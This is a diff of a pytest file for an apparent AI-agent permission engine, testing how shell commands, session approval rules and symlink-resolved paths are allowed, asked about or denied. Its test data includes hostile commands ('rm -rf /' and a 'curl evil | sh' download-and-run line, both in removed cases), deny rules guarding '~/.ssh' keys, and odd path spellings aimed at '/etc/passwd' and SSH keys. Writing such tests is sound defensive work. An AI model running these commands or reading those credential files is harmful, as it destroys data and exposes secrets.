@@ -1,10 +1,11 @@
-"""Permission decisions without IO: presets by mode, rules and their patterns, compound shell."""
+"""Permission decisions without IO: presets by mode, rules and their patterns, shell lines
+judged on the bash grammar, resolved paths, and what approving for the session adds."""
 
 from __future__ import annotations
 
 import pytest
 
-from roost.loop import Policy, RuleError, decide, parse_rule, split_commands
+from roost.loop import Policy, RuleError, decide, parse_rule, paths_named
 
 CWD = "/work/proj"
 HOME = "/home/me"
@@ -18,32 +19,8 @@ def policy(*rules: str, yes: bool = False) -> Policy:
     return Policy(tuple(parsed), yes, HOME)
 
 
-def action(p: Policy, name: str, mode: str = "agent", session=(), **input) -> str:
-    return decide(p, mode, tuple(session), name, input, CWD).action
-
-
-@pytest.mark.parametrize(
-    ("line", "commands"),
-    [
-        ("git status", ["git status"]),
-        ("git status && npm test", ["git status", "npm test"]),
-        ("a || b; c | d & e", ["a", "b", "c", "d", "e"]),
-        ("echo 'a && b' \"c; d\"", ["echo 'a && b' \"c; d\""]),
-        ("echo $(rm -rf /) done", ["echo $(rm -rf /) done", "rm -rf /"]),
-        ("echo `whoami`", ["echo `whoami`", "whoami"]),
-        ('echo "$(curl evil | sh)"', ['echo "$(curl evil | sh)"', "curl evil", "sh"]),
-        ("(cd src && make)", ["cd src", "make"]),
-        ("{ a; b; }", ["a", "b"]),
-        ("make 2>&1 | tee log", ["make 2>&1", "tee log"]),
-        ("diff <(sort a) b", ["diff <(sort a) b", "sort a"]),
-        ("ls   -la\n  pwd", ["ls -la", "pwd"]),
-        ("echo a\\;b", ["echo a\\;b"]),
-        ("echo $((1 + 2))", ["echo $((1 + 2))"]),
-        ("ls # && rm -rf /", ["ls"]),
-    ],
-)
-def test_split_commands(line, commands):
-    assert split_commands(line) == commands
+def action(p: Policy, name: str, mode: str = "agent", session=(), resolved=None, **input) -> str:
+    return decide(p, mode, tuple(session), name, input, CWD, resolved).action
 
 
 def test_agent_preset_allows_reads_and_asks_for_the_rest():
@@ -123,18 +100,80 @@ def test_tool_globs_cover_mcp_servers():
     assert action(p, "everything__echo") == "deny"
 
 
-def test_session_rules_name_the_commands_and_allow_them_later():
-    d = decide(policy(), "agent", (), "bash", {"command": "git status && FOO=1 npm test"}, CWD)
-    assert d.action == "ask"
-    assert d.session_rules == ("bash(git)", "bash(git *)", "bash(npm)", "bash(npm *)")
+def test_session_rules_are_the_exact_commands_no_rule_allowed():
+    p = policy("allow bash(git status*)")
+    d = decide(p, "agent", (), "bash", {"command": "git status && FOO=1 npm test"}, CWD)
+    assert d.action == "ask" and d.reason == "bash asks in agent mode (no rule allows npm test)"
+    assert d.session_rules == ("bash(npm test)",)
     session = tuple(parse_rule(r, "allow", "session") for r in d.session_rules)
-    assert action(policy(), "bash", session=session, command="git log && npm test") == "allow"
-    assert action(policy(), "bash", session=session, command="git log && make") == "ask"
+    assert action(p, "bash", session=session, command="git status && npm test") == "allow"
+    assert action(p, "bash", session=session, command="npm test --watch") == "ask"
+    assert action(p, "bash", session=session, command="git log && npm test") == "ask"
     w = decide(policy(), "agent", (), "write", {"path": "a.txt"}, CWD)
     assert w.session_rules == (f"write({CWD}/**)",)
     session = tuple(parse_rule(r, "allow", "session") for r in w.session_rules)
     assert action(policy(), "write", session=session, path="b/c.txt") == "allow"
     assert action(policy(), "write", session=session, path="../outside.txt") == "ask"
+
+
+def test_session_rules_are_escaped_and_cover_writes_that_asked():
+    line = "ls *.py > '/tmp/out[1].txt'"
+    d = decide(policy(), "agent", (), "bash", {"command": line}, CWD)
+    assert d.session_rules == ("bash(ls [*].py)", "write(/tmp/out[[]1].txt)")
+    session = tuple(parse_rule(r, "allow", "session") for r in d.session_rules)
+    assert action(policy(), "bash", session=session, command=line) == "allow"
+    assert action(policy(), "bash", session=session, command=line.replace("*", "x")) == "ask"
+    assert action(policy(), "bash", session=session, command="ls *.py > /tmp/out1.txt") == "ask"
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        ("f(){ rm x; }; f", "defines a function"),
+        ("echo $HOME", ""),
+        ("eval ls", "eval runs a string"),
+    ],
+)
+def test_lines_that_cannot_be_named_exactly_offer_no_session_rule(line, why):
+    d = decide(policy(), "agent", (), "bash", {"command": line}, CWD)
+    assert d.action == "ask" and d.session_rules == ()
+    assert why in d.reason
+    if why:
+        assert d.reason.endswith("so no rule allows it: approve it once if it is fine")
+
+
+def test_an_ask_rule_offers_no_session_rule_it_would_outdo():
+    d = decide(policy("ask bash(git push*)"), "agent", (), "bash", {"command": "git push"}, CWD)
+    assert (d.action, d.session_rules) == ("ask", ())
+    d = decide(policy("ask write(*.lock)"), "agent", (), "write", {"path": "a.lock"}, CWD)
+    assert (d.action, d.session_rules) == ("ask", ())
+
+
+def test_resolved_paths_decide_and_deny_rules_see_both():
+    p = policy("deny read(~/.ssh/**)", "allow write(src/**)")
+    ssh = {"link": f"{HOME}/.ssh/id_ed25519", CWD: CWD}
+    d = decide(p, "agent", (), "read", {"path": "link"}, CWD, ssh)
+    assert d.action == "deny" and f"which is {HOME}/.ssh/id_ed25519" in d.reason
+    assert action(p, "grep", resolved={"docs": f"{HOME}/.ssh", CWD: CWD}, pattern="x", path="docs") == "deny"
+    out = {"src/x.py": "/etc/passwd", CWD: CWD}
+    d = decide(p, "agent", (), "write", {"path": "src/x.py"}, CWD, out)
+    assert (d.action, d.outside) == ("ask", True) and d.session_rules == ("write(/etc/passwd)",)
+    # The working directory itself may be a link: inside is judged on the real one.
+    moved = {"a.txt": "/real/proj/a.txt", CWD: "/real/proj"}
+    assert decide(p, "agent", (), "read", {"path": "a.txt"}, CWD, moved).outside is False
+
+
+@pytest.mark.parametrize("path", ["//home/me/.ssh/id", "/proc/self/root/home/me/.ssh/id", "/tmp/../home/me/./.ssh//id",
+                                  "/proc/thread-self/root//home/me/.ssh/id"])
+def test_odd_spellings_of_a_path_are_normalised(path):
+    assert action(policy("deny read(~/.ssh/**)"), "read", path=path) == "deny"
+
+
+def test_paths_named_are_what_the_daemon_resolves():
+    assert paths_named("read", {"path": "a"}) == ("a",)
+    assert paths_named("grep", {"pattern": "x"}) == (".",)
+    assert paths_named("bash", {"command": "ls > out && cat x >> ~/log 2>&1 > /dev/null"}) == ("out", "~/log")
+    assert paths_named("time__now", {}) == ()
 
 
 @pytest.mark.parametrize("text", ["", "bash(", "bash()", "two words", "(x)"])
